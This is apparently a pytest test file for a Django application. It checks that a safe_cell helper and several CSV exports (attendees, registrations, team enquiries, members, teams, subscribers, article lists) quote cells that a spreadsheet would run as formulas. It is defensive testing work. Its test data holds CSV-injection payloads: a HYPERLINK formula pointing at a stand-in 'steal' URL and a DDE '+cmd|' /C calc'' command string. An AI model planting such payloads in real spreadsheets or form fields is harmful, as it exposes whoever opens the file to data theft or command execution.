"""Reader-typed text in every CSV the product writes opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from lib.csv import safe_cell
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/steal","Open")'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def _manager() -> Client:
    client = Client()
    manager: Any = UserFactory(username="manager", is_staff=True, is_superuser=True)
    client.force_login(manager)
    return client


def _admin_export(url: str) -> list[list[str]]:
    response: Any = _manager().get(url)
    assert response.status_code == 200
    return _rows(b"".join(response.streaming_content))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_get_a_quote_in_front(start):
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


def test_ordinary_cells_and_numbers_are_left_as_they_are():
    assert safe_cell("Ana Ruiz") == "Ana Ruiz"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3
    assert safe_cell("") == ""


def _pro_attendee(**names: Any) -> Any:
    from tests.membership.cast import pro_member

    user = pro_member("mallory")
    for field, value in names.items():
        setattr(user, field, value)
    user.save()
    return user


def test_the_attendee_csv_neutralises_a_formula_in_a_name_and_a_question(bob):
    from events.services import registration_create
    from tests.events.builders import make_gathering

    event = make_gathering()
    registration_create(event=event, user=_pro_attendee(first_name=FORMULA), question="@SUM(A1:A9)")
    client = Client()
    client.force_login(bob)
    rows = _rows(client.get(f"/pro/events/{event.slug}/attendees.csv").content)
    assert rows[1][0].startswith(f"'{FORMULA}")
    assert rows[1][4] == "'@SUM(A1:A9)"


def test_the_registrations_export_neutralises_a_formula_in_a_question(db):
    from events.models import Registration
    from events.services import registration_create
    from tests.events.builders import make_gathering

    registration_create(event=make_gathering(), user=_pro_attendee(), question=FORMULA)
    rows = _admin_export("/admin/snippets/events/registration/?export=csv")
    assert Registration.objects.count() == 1
    assert rows[1][3] == f"'{FORMULA}"


def test_the_team_enquiries_export_neutralises_formulas(db):
    from membership.models import Lead

    Lead.objects.create(name=FORMULA, email="x@example.com", organisation="+cmd|' /C calc'!A0", seats=3, message="-2+3")
    rows = _admin_export("/admin/membership/team-enquiries/?export=csv")
    assert rows[1][:2] == ["'+cmd|' /C calc'!A0", f"'{FORMULA}"]
    assert rows[1][4] == "'-2+3"


def test_the_members_export_neutralises_a_formula_in_an_address(alice):
    alice.email = "=1+2@example.com"
    alice.save()
    rows = _admin_export("/admin/membership/members/?export=csv")
    assert rows[1][0] == "'=1+2@example.com"


def test_the_teams_export_neutralises_a_formula_in_a_team_name(alice):
    from membership.models import Plan, Team

    Team.objects.create(name=FORMULA, admin=alice, plan=Plan.objects.first(), seats=3)
    rows = _admin_export("/admin/membership/teams/?export=csv")
    assert rows[1][0] == f"'{FORMULA}"


def test_the_subscriber_export_neutralises_a_formula_in_a_name(db):
    from django.utils import timezone

    from newsletters.importing import subscribers_export
    from newsletters.models import Newsletter, Subscriber, Subscription
    from newsletters.setup import ensure_briefings

    ensure_briefings()
    subscriber = Subscriber.objects.create(email="eve@example.com", name=FORMULA)
    Subscription.objects.create(
        subscriber=subscriber,
        newsletter=Newsletter.objects.get(slug="security"),
        status=Subscription.Status.ACTIVE,
        confirmed_at=timezone.now(),
    )
    out = io.StringIO()
    subscribers_export(stream=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][:2] == ["eve@example.com", f"'{FORMULA}"]


def test_the_monitor_story_list_csv_neutralises_a_formula_in_a_headline(site, alice):
    from monitor.registry import registry_seed
    from monitor.tagging import article_tag
    from tests.factories import ArticleFactory, paragraphs

    registry_seed()
    article = ArticleFactory(parent=site.gulf, title=FORMULA, slug="formula", body=paragraphs("Iran said so."))
    article_tag(article=article)
    client = Client()
    client.force_login(alice)
    rows = _rows(client.get("/monitor/iran/mentions.csv?data=articles").content)
    assert rows[1][1] == f"'{FORMULA}"
